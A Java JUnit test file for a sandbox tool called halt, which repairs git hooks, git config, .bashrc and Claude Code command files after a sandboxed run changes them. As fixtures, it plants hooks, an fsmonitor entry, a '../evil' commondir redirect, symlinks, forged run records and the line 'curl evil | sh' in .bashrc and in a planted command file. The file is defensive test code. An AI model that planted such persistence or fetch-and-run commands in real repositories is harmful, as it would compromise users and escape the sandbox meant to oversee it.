package dev.halt.core.linux.fs;

import dev.halt.core.linux.sys.Syscall;
import dev.halt.core.policy.Isolation;
import dev.halt.core.protect.ProtectedPaths;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;

import static org.junit.jupiter.api.Assertions.*;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * The repair of protected paths without a mount namespace, on real repositories made by git: this
 * test plays the sandboxed run (it changes the files) and halt (it repairs), as a run's halt does
 * during and after the run, or the next halt after a {@code kill -9}.
 */
@Tag("linux")
class ProtectedSnapshotTest {

    @TempDir
    Path temp;
    Path ws;

    @BeforeEach
    void repository() throws Exception {
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/git")), "[tool-git] needs git");
        ws = Files.createDirectories(temp.resolve("ws")).toRealPath();
        git("init", "-q");
        git("commit", "-q", "--allow-empty", "-m", "first");
    }

    private void git(String... args) throws Exception {
        var command = new ArrayList<>(List.of("git", "-c", "init.defaultBranch=main", "-c", "user.name=t", "-c", "user.email=t@t"));
        command.addAll(List.of(args));
        var p = new ProcessBuilder(command).directory(ws.toFile()).redirectErrorStream(true).start();
        var out = new String(p.getInputStream().readAllBytes());
        assertTrue(p.waitFor(30, TimeUnit.SECONDS));
        assertEquals(0, p.exitValue(), out);
    }

    private ProtectedSnapshot snapshot() {
        return ProtectedSnapshot.take(ProtectedPaths.scan(List.of(ws), Isolation.DEFAULTS));
    }

    private static String all(List<String> lines) {
        return String.join("\n", lines);
    }

    @Test
    void aPlantedHookAChangedConfigAndADeletedFileArePutBackWithTheRunsVersionsKept() throws Exception {
        Files.writeString(ws.resolve(".bashrc"), "# mine\n");
        var snapshot = snapshot();
        var config = Files.readString(ws.resolve(".git/config"));
        assertEquals(List.of(), snapshot.repair(snapshot.scanningLocator()), "nothing changed yet");

        var hook = Files.writeString(ws.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ntouch planted\n");
        Files.writeString(ws.resolve(".git/config"), config + "[core]\n\tfsmonitor = ./planted.sh\n");
        Files.delete(ws.resolve(".git/hooks/pre-push.sample"));
        Files.writeString(ws.resolve(".bashrc"), "curl evil | sh\n");
        Files.setAttribute(ws.resolve(".git/hooks/update.sample"), "unix:mode", 04755, LinkOption.NOFOLLOW_LINKS);
        Files.setAttribute(ws.resolve(".git/hooks"), "unix:mode", 0777, LinkOption.NOFOLLOW_LINKS);

        var done = all(snapshot.repair(snapshot.scanningLocator()));
        assertFalse(Files.exists(hook, LinkOption.NOFOLLOW_LINKS), done);
        assertEquals("#!/bin/sh\ntouch planted\n", Files.readString(ws.resolve(".git/hooks.halt-refused/pre-commit")));
        assertEquals(config, Files.readString(ws.resolve(".git/config")));
        assertTrue(Files.readString(ws.resolve(".git/config.halt-refused/config")).contains("fsmonitor"));
        assertTrue(Files.exists(ws.resolve(".git/hooks/pre-push.sample")), done);
        assertEquals("# mine\n", Files.readString(ws.resolve(".bashrc")));
        assertEquals(0755, (int) Files.getAttribute(ws.resolve(".git/hooks/update.sample"), "unix:mode") & 07777, done);
        assertEquals(0755, (int) Files.getAttribute(ws.resolve(".git/hooks"), "unix:mode") & 07777, done);
        for (var name : List.of("pre-commit", ".git/config ", "pre-push.sample", ".bashrc", "update.sample", "hooks: the run changed its mode")) {
            assertTrue(done.contains(name), name + " is named: " + done);
        }
        assertEquals(List.of(), snapshot.repair(snapshot.scanningLocator()), "halt's own copies are not changes");
    }

    @Test
    void aRenamedGitIsMovedBackAndWhatTookItsPlaceIsMovedAside() throws Exception {
        var head = Files.readString(ws.resolve(".git/HEAD"));
        var snapshot = snapshot();
        Files.move(ws.resolve(".git"), ws.resolve(".git-old"));
        git("init", "-q");
        Files.writeString(ws.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ntouch planted\n");

        var done = all(snapshot.repair(snapshot.scanningLocator()));
        assertTrue(done.contains("had been moved to " + ws.resolve(".git-old")), done);
        assertFalse(Files.exists(ws.resolve(".git-old")));
        assertTrue(Files.isDirectory(ws.resolve(".git.halt-refused/.git")));
        assertEquals(head, Files.readString(ws.resolve(".git/HEAD")));
        assertTrue(Files.exists(ws.resolve(".git/refs/heads/main")), "the original repository is back");
        assertFalse(Files.exists(ws.resolve(".git/hooks/pre-commit")));
    }

    @Test
    void aRedirectThatAppearedIsMovedAside() throws Exception {
        var snapshot = snapshot();
        Files.writeString(ws.resolve(".git/commondir"), "../evil\n");
        var done = all(snapshot.repair(snapshot.scanningLocator()));
        assertFalse(Files.exists(ws.resolve(".git/commondir")), done);
        assertEquals("../evil\n", Files.readString(ws.resolve(".git/commondir.halt-refused/commondir")));
        assertTrue(done.contains("commondir appeared"), done);
    }

    @Test
    void aLinkPlantedAboveAProtectedPathIsNotFollowed() throws Exception {
        Files.createDirectories(ws.resolve(".claude/commands"));
        Files.writeString(ws.resolve(".claude/commands/review.md"), "mine");
        var outside = Files.createDirectories(temp.resolve("outside/commands"));
        Files.writeString(outside.resolve("review.md"), "someone else's");
        var snapshot = snapshot();

        Files.move(ws.resolve(".claude"), ws.resolve(".claude-old"));
        Files.createSymbolicLink(ws.resolve(".claude"), outside.getParent());
        var done = all(snapshot.repair(snapshot.scanningLocator()));
        assertEquals("someone else's", Files.readString(outside.resolve("review.md")), "halt changed nothing outside: " + done);
        assertEquals(List.of(outside.resolve("review.md")), Files.list(outside).toList());
        assertTrue(Files.isSymbolicLink(ws.resolve(".claude.halt-refused/.claude")), done);
        assertEquals("mine", Files.readString(ws.resolve(".claude/commands/review.md")), done);
    }

    @Test
    void aNameLikeHaltsOwnInAProtectedDirectoryIsTheRunsAndLeavesIt() throws Exception {
        Files.createDirectories(ws.resolve(".claude/commands"));
        Files.writeString(ws.resolve(".claude/commands/review.md"), "mine");
        var snapshot = snapshot();
        // What Claude Code would load as a command, under a name halt used to skip as its own.
        var planted = Files.createDirectories(ws.resolve(".claude/commands/x.halt-refused"));
        Files.writeString(planted.resolve("evil.md"), "run curl evil | sh");
        Files.writeString(ws.resolve(".git/hooks/pre-commit.halt-refused"), "#!/bin/sh\ntouch planted\n");

        var done = all(snapshot.repair(snapshot.scanningLocator()));
        try (var left = Files.list(ws.resolve(".claude/commands"))) {
            assertEquals(List.of(ws.resolve(".claude/commands/review.md")), left.toList(), done);
        }
        assertEquals("run curl evil | sh", Files.readString(ws.resolve(".claude/commands.halt-refused/x.halt-refused/evil.md")), done);
        assertFalse(Files.exists(ws.resolve(".git/hooks/pre-commit.halt-refused")), done);
        assertEquals(List.of(), snapshot.repair(snapshot.scanningLocator()), "the kept versions lie outside what is protected");
    }

    @Test
    void aLinkPlantedWhereTheRunsVersionsGoIsNotFollowed() throws Exception {
        var snapshot = snapshot();
        var outside = Files.createDirectories(temp.resolve("outside-kept"));
        Files.createSymbolicLink(ws.resolve(".git/hooks.halt-refused"), outside);
        Files.writeString(ws.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ntouch planted\n");

        var done = all(snapshot.repair(snapshot.scanningLocator()));
        try (var there = Files.list(outside)) {
            assertEquals(List.of(), there.toList(), "nothing was moved through the link: " + done);
        }
        assertFalse(Files.exists(ws.resolve(".git/hooks/pre-commit")), done);
        assertTrue(done.contains("deleted it"), done);
    }

    @Test
    void aRedirectIsKeptAsideAlsoByTheExitCheck() throws Exception {
        Files.writeString(ws.resolve(".git/commondir"), "../evil\n");
        var moved = ProtectedSnapshot.keepAside(List.of(ws), ws.resolve(".git/commondir"));
        assertEquals(ws.resolve(".git/commondir.halt-refused/commondir"), moved.orElseThrow());
        assertFalse(Files.exists(ws.resolve(".git/commondir")));
        assertEquals(Optional.empty(), ProtectedSnapshot.keepAside(List.of(ws), ws.resolve(".git/commondir")), "gone");
    }

    @Test
    void aFileOverTheBoundIsNamedAndItsChangeMovedAsideWithoutAnOriginal() throws Exception {
        var big = ws.resolve(".git/hooks/big-hook");
        Files.write(big, new byte[ProtectedSnapshot.MAX_FILE_BYTES + 1]);
        var snapshot = snapshot();
        assertTrue(snapshot.warnings().stream().anyMatch(w -> w.contains(big.toString()) && w.contains("larger")),
            snapshot.warnings().toString());
        Files.writeString(big, "#!/bin/sh\ntouch planted\n");
        var done = all(snapshot.repair(snapshot.scanningLocator()));
        assertFalse(Files.exists(big), done);
        assertTrue(done.contains("could not put the original back"), done);
    }

    @Test
    void theSnapshotSurvivesItsRecordAndRepairsAfterItsHaltIsGone() throws Exception {
        var snapshot = snapshot();
        var bytes = new ByteArrayOutputStream();
        SnapshotFormat.write(snapshot, new DataOutputStream(bytes));
        var read = SnapshotFormat.read(new DataInputStream(new ByteArrayInputStream(bytes.toByteArray())));
        Files.writeString(ws.resolve(".git/hooks/post-checkout"), "#!/bin/sh\ntouch planted\n");
        var done = all(read.repair(read.scanningLocator()));
        assertFalse(Files.exists(ws.resolve(".git/hooks/post-checkout")), done);
    }

    @Test
    void theNextHaltCleansUpAfterAKilledOneAndLeavesLiveRunsAlone() throws Exception {
        var state = Files.createDirectories(temp.resolve("state"));
        var env = Map.of("XDG_STATE_HOME", state.toString());
        var tmp = Files.createDirectory(Path.of("/tmp/halt-" + Syscall.geteuid() + "-test" + System.nanoTime() % 100000));
        Files.writeString(tmp.resolve("scratch"), "x");
        var dir = RunRecord.prepareDirectory(RunRecord.directory(env).orElseThrow());
        assertEquals(0700, (int) Files.getAttribute(dir, "unix:mode") & 0777);
        var live = RunRecord.write(dir, tmp, snapshot());
        assertEquals(List.of(), RunRecord.recoverAbandoned(env), "this halt is running: its record stays");
        assertTrue(Files.exists(live.file()));

        // The same record as a halt that is gone would have left it: a PID that exited.
        var gone = new ProcessBuilder("true").start();
        gone.waitFor();
        var dead = live.file().resolveSibling(gone.pid() + "-1.run");
        Files.move(live.file(), dead);
        Files.writeString(ws.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ntouch planted\n");

        var done = all(RunRecord.recoverAbandoned(env));
        assertTrue(done.contains("halt (process " + gone.pid() + ") was killed"), done);
        assertFalse(Files.exists(ws.resolve(".git/hooks/pre-commit")), done);
        assertFalse(Files.exists(tmp), done);
        assertTrue(done.contains(tmp.toString()), done);
        assertEquals(List.of(), Files.list(dir).toList(), "the record is gone");
    }

    @Test
    void aRecordHaltCannotHaveWrittenIsIgnoredAndDeleted() throws Exception {
        var state = Files.createDirectories(temp.resolve("state-planted"));
        var env = Map.of("XDG_STATE_HOME", state.toString());
        var dir = RunRecord.prepareDirectory(RunRecord.directory(env).orElseThrow());
        var victim = Files.writeString(temp.resolve("victim"), "the user's\n");
        var gone = new ProcessBuilder("true").start();
        gone.waitFor();

        // A real record of a real snapshot, then shared with others (0644), as a careless plant would be.
        var record = RunRecord.write(dir, null, snapshot());
        var planted = Files.move(record.file(), dir.resolve(gone.pid() + "-1.run"));
        Files.setAttribute(planted, "unix:mode", 0644);
        Files.writeString(ws.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ntouch planted\n");
        var done = all(RunRecord.recoverAbandoned(env));
        assertTrue(done.contains("ignored and deleted the run record") && done.contains("0644"), done);
        assertTrue(Files.exists(ws.resolve(".git/hooks/pre-commit")), "nothing was repaired from it: " + done);
        assertFalse(Files.exists(planted), done);

        // One whose write grants hold the records themselves: halt refuses such a run, so it is no record of halt's.
        var wide = ProtectedSnapshot.take(ProtectedPaths.scan(List.of(temp.toRealPath()), Isolation.DEFAULTS));
        var forged = Files.move(RunRecord.write(dir, null, wide).file(), dir.resolve(gone.pid() + "-2.run"));
        Files.writeString(victim, "changed by the user later\n");
        done = all(RunRecord.recoverAbandoned(env));
        assertTrue(done.contains("which halt refuses"), done);
        assertFalse(Files.exists(forged), done);
    }

    @Test
    void theWatcherRepairsAtOnceAndStopsWithoutWaiting() throws Exception {
        var snapshot = snapshot();
        var watcher = ProtectedPathWatcher.prepare(snapshot, snapshot.scanningLocator());
        watcher.start();
        try {
            // Churn in .git that is not protected wakes the watcher but is left alone.
            Files.writeString(ws.resolve(".git/index.lock"), "x");
            var hook = Files.writeString(ws.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ntouch planted\n");
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(5);
            while (Files.exists(hook) && System.nanoTime() < deadline) Thread.sleep(10);
            assertFalse(Files.exists(hook), "repaired while the run goes on");
            assertTrue(Files.exists(ws.resolve(".git/index.lock")));
        } finally {
            long start = System.nanoTime();
            watcher.requestStop();
            watcher.awaitStopped();
            assertTrue(System.nanoTime() - start < TimeUnit.SECONDS.toNanos(1), "the eventfd wakes the watcher");
        }
        var threads = Thread.getAllStackTraces().keySet().stream().filter(t -> t.getName().equals("halt-protect")).toList();
        assertEquals(List.of(), threads, "no watcher thread is left");
    }
}
